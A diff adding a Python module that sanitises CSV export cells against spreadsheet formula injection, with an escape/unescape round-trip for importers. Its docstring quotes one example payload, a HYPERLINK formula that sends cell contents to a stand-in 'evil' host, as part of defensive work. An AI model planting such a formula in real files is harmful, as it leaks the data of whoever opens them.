@@ -1,0 +1,108 @@
+"""The one CSV writer every export uses: spreadsheet formula injection is neutralised here.
+
+A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
+formula when the file is opened in Excel or LibreOffice (OWASP "CSV injection"): a prompt, a
+reason or a note such as ``=HYPERLINK("http://evil/?"&A1)`` would leak or execute. Such a cell
+is written with a leading single quote, which spreadsheets read as "this is text" and hide.
+
+Precisely, ``cell_escape(value)``:
+
+- leaves numbers (``int``, ``float``, ``Decimal``; ``bool`` is an int) and ``None`` untouched:
+  a negative number written from a float, ``-0.25``, stays a number in the sheet;
+- leaves text that is a plain decimal number literal (``-0.25``, ``+3``, ``-1e-05``) untouched:
+  a spreadsheet parses it as that number and nothing runs;
+- prefixes ``'`` to any other text starting with a trigger character, and to text that starts
+  with ``'`` where the rest would itself be prefixed — so ``cell_unescape`` can tell an added
+  quote from one the value really had, and export → import gives back every value exactly.
+
+Importers that read exports back call ``cell_unescape`` on every cell (``read_cell``).
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections.abc import Collection, Iterable, Mapping
+from decimal import Decimal
+from typing import IO, Any
+
+#: First characters that make a spreadsheet treat a cell as a formula (OWASP's list).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+#: The prefix that makes a spreadsheet keep a cell as text.
+TEXT_PREFIX = "'"
+
+_NUMBER_RE = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def _needs_prefix(text: str) -> bool:
+    if text.startswith(FORMULA_TRIGGERS):
+        return _NUMBER_RE.fullmatch(text) is None
+    # A quote the value really has, in front of what would be escaped: escape it too, or the
+    # import would take the value's own quote for ours.
+    return text.startswith(TEXT_PREFIX) and _needs_prefix(text[1:])
+
+
+def cell_escape(value: Any) -> Any:
+    """The value to write for ``value``: numbers and None as they are, text made inert.
+
+    Anything that is not a number or None is written as ``str(value)``, with ``'`` in front
+    when a spreadsheet would run it as a formula (rules in the module docstring).
+    """
+    if value is None or isinstance(value, int | float | Decimal):
+        return value
+    text = str(value)
+    return TEXT_PREFIX + text if _needs_prefix(text) else text
+
+
+def cell_unescape(text: str) -> str:
+    """The inverse of ``cell_escape`` on text: ``cell_unescape(cell_escape(s)) == s`` for every
+    string ``s``. Text ``cell_escape`` would not have produced by prefixing is returned as is,
+    so hand-written files read as before (a lone leading quote before a letter stays)."""
+    if text.startswith(TEXT_PREFIX) and _needs_prefix(text[1:]):
+        return text[1:]
+    return text
+
+
+def read_cell(value: str | None) -> str:
+    """A cell as importers use it: ``None`` (a short row) as "", the export's protective quote
+    removed, surrounding whitespace stripped."""
+    return cell_unescape(value or "").strip()
+
+
+class SafeWriter:
+    """``csv.writer`` whose every cell goes through ``cell_escape``."""
+
+    def __init__(self, fh: IO[str], **fmtparams: Any) -> None:
+        self._writer = csv.writer(fh, **fmtparams)
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow([cell_escape(value) for value in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+class SafeDictWriter(csv.DictWriter):
+    """``csv.DictWriter`` whose every value goes through ``cell_escape`` (header names are the
+    program's own column names and are written as they are)."""
+
+    def writeheader(self) -> Any:
+        return self.writer.writerow(list(self.fieldnames))
+
+    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
+        return super().writerow({key: cell_escape(value) for key, value in rowdict.items()})
+
+    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
+        for rowdict in rowdicts:
+            self.writerow(rowdict)
+
+
+def safe_writer(fh: IO[str], **fmtparams: Any) -> SafeWriter:
+    """A CSV writer for exports: like ``csv.writer(fh, **fmtparams)``, formula cells made inert."""
+    return SafeWriter(fh, **fmtparams)
+
+
+def safe_dict_writer(fh: IO[str], fieldnames: Collection[str], **kwargs: Any) -> SafeDictWriter:
+    """A dict CSV writer for exports: like ``csv.DictWriter``, formula cells made inert."""
+    return SafeDictWriter(fh, fieldnames=list(fieldnames), **kwargs)
